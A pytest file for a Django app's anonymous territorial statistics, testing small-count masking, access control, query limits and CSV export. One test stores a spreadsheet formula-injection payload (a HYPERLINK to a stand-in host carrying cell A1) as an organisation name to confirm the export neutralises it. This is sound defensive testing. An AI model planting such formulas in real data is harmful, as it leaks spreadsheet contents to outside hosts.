"""The territory's anonymous statistics: coordinators only, no personal data, small
counts masked (also against subtraction), CSV export equal to the page."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from aiguillage.assessments import rules
from aiguillage.journal.models import JournalEntry
from aiguillage.people.actions import withdraw_consent
from aiguillage.territories.models import Commune
from tests import factories
from tests.assessments.conftest import AUTONOMY, BEGINNER, make_person, screening

# --- Masking (pure) ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("matrix", "primary", "secondary"),
    [
        # Nothing small: nothing hidden.
        ([[5, 6], [7, 8]], set(), set()),
        # Zeros are shown.
        ([[0, 6], [7, 0]], set(), set()),
        # One small cell in a row and a column: one more cell in each, so that neither the row
        # total nor the column total gives it away.
        ([[3, 9], [7, 8]], {(0, 0)}, {(0, 1), (1, 0), (1, 1)}),
        # Two small cells in a row protect each other in the row; the columns need more.
        ([[2, 3, 10], [6, 7, 8]], {(0, 0), (0, 1)}, {(1, 0), (1, 1)}),
        # A small total is masked too.
        ([[1, 0], [0, 0]], {(0, 0), (0, 2), (2, 0), (2, 2)}, set()),
    ],
)
def test_small_counts_and_what_would_reveal_them_are_hidden(matrix, primary, secondary):
    assert rules.hidden_cells(matrix) == (primary, secondary)


def test_no_row_or_column_has_a_single_hidden_cell():
    """With one hidden cell, a row or column (total included) would give it away."""
    import random

    generator = random.Random(4)
    for _ in range(300):
        rows, cols = generator.randint(1, 5), generator.randint(1, 4)
        matrix = [
            [generator.choice([0, 0, 1, 2, 3, 5, 8, 13]) for _ in range(cols)] for _ in range(rows)
        ]
        primary, secondary = rules.hidden_cells(matrix)
        hidden = primary | secondary
        full = [row + [sum(row)] for row in matrix]
        full.append([sum(row[j] for row in full) for j in range(cols + 1)])
        cells = [(i, j) for i in range(rows + 1) for j in range(cols + 1)]
        assert primary == {(i, j) for i, j in cells if 0 < full[i][j] < 5}
        assert all(full[i][j] > 0 for i, j in secondary)
        for i in range(rows + 1):
            assert sum((i, j) in hidden for j in range(cols + 1)) != 1
        for j in range(cols + 1):
            assert sum((i, j) in hidden for i in range(rows + 1)) != 1


def test_transitions_compare_assessments_of_the_same_kind_only():
    day = dt.date(2026, 1, 1)
    facts = [
        rules.Fact(1, "screening", day, "assistance", "A", "S"),
        rules.Fact(1, "in_depth", day + dt.timedelta(days=1), "autonomie", "A", "S"),
        rules.Fact(1, "screening", day + dt.timedelta(days=30), "accompagne_debutant", "A", "S"),
        rules.Fact(2, "screening", day, "autonomie", "A", "S"),
    ]
    assert rules.transitions(facts) == {("assistance", "accompagne_debutant"): 1}


# --- The page ------------------------------------------------------------------------------


@pytest.fixture
def many_screenings(owner, organisation, territory):
    """Grenoble: six autonomous people and two beginners; Échirolles: six autonomous."""
    grenoble = Commune.objects.get(insee_code="38185")
    echirolles = Commune.objects.get(insee_code="38151")
    at = timezone.now() - dt.timedelta(days=40)
    people = []
    for commune, answers, count in [
        (grenoble, AUTONOMY, 6),
        (grenoble, BEGINNER, 2),
        (echirolles, AUTONOMY, 6),
    ]:
        for index in range(count):
            person = make_person(
                owner, organisation, first_name=f"{commune.name[:3]}{index}", commune=commune
            )
            screening(owner, organisation, person, answers, at=at)
            people.append(person)
    return people


def stats_url(territory):
    return reverse("assessments:assessment_stats", args=[territory.slug])


def test_coordinators_see_anonymous_masked_counts(client, coordinator, territory, many_screenings):
    client.force_login(coordinator)
    response = client.get(stats_url(territory))
    page = response.content.decode()
    assert response.status_code == 200
    assert "Grenoble" in page and "Échirolles" in page
    # Two beginners in Grenoble: masked, and Grenoble's autonomous count with them, or the
    # total would give them away.
    assert "&lt; 5" in page and "(masqué)" in page
    # No personal data at all.
    for person in many_screenings:
        assert person.first_name not in page
        assert str(person.public_id) not in page
    assert JournalEntry.objects.filter(event="assessment_stats_viewed").exists()


def export(client, territory) -> list[list[str]]:
    response = client.get(reverse("assessments:assessment_stats_csv", args=[territory.slug]))
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_export_says_what_the_page_says(client, coordinator, territory, many_screenings):
    client.force_login(coordinator)
    rows = export(client, territory)
    assert rows[0] == ["tableau", "ligne", "typologie", "nombre", "part de la ligne"]
    assert ["communes", "Échirolles", "Autonomie", "6", "100 %"] in rows
    assert ["communes", "Grenoble", "Accès accompagné — débutant", "< 5", ""] in rows
    assert ["communes", "Grenoble", "Autonomie", "(masqué)", ""] in rows
    assert ["communes", "Grenoble", "Total", "8", ""] in rows
    assert {row[3] for row in rows[1:]} <= {"< 5", "(masqué)", "0"} | {str(n) for n in range(5, 99)}
    text = "\n".join(";".join(row) for row in rows)
    assert not any(person.first_name in text for person in many_screenings)
    assert JournalEntry.objects.filter(event="assessment_stats_exported").exists()


def test_transitions_count_reassessments(
    client, coordinator, owner, organisation, territory, many_screenings
):
    for person in many_screenings[6:8]:
        screening(owner, organisation, person, AUTONOMY)
    client.force_login(coordinator)
    rows = export(client, territory)
    assert ["transitions", "Accès accompagné — débutant", "Autonomie", "< 5", ""] in rows
    # The two beginners are now autonomous: Grenoble has 8 autonomous people, all shown.
    assert ["communes", "Grenoble", "Autonomie", "8", "100 %"] in rows


def test_anonymised_people_still_count(client, coordinator, owner, territory, many_screenings):
    for person in many_screenings[8:]:
        withdraw_consent(actor=owner, person=person)
    client.force_login(coordinator)
    assert ["communes", "Échirolles", "Autonomie", "6", "100 %"] in export(client, territory)


def test_members_get_403_and_no_data(client, owner, territory, many_screenings):
    client.force_login(owner)
    for name in ("assessment_stats", "assessment_stats_csv"):
        response = client.get(reverse(f"assessments:{name}", args=[territory.slug]))
        assert response.status_code == 403
        assert "Grenoble" not in response.content.decode()


def test_members_of_another_territory_get_404(client, territory):
    other = factories.OrganisationFactory(territory=factories.TerritoryFactory(slug="ailleurs"))
    client.force_login(factories.MembershipFactory(organisation=other).user)
    assert client.get(stats_url(territory)).status_code == 404


def test_anonymous_visitors_are_sent_to_login(client, territory):
    response = client.get(stats_url(territory))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_the_page_costs_a_fixed_number_of_queries(
    client, coordinator, territory, many_screenings, django_assert_max_num_queries
):
    client.force_login(coordinator)
    client.get(stats_url(territory))
    with django_assert_max_num_queries(12):
        client.get(stats_url(territory))


def test_an_empty_territory_says_so(client, coordinator, territory):
    client.force_login(coordinator)
    page = client.get(stats_url(territory)).content.decode()
    assert "Aucun diagnostic terminé pour le moment" in page


def test_a_structure_named_as_a_formula_is_neutralised_in_the_csv(
    client, coordinator, territory, organisation, many_screenings
):
    organisation.name = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")'
    organisation.save()
    client.force_login(coordinator)
    cells = [cell for row in export(client, territory) for cell in row]
    assert "'" + organisation.name in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
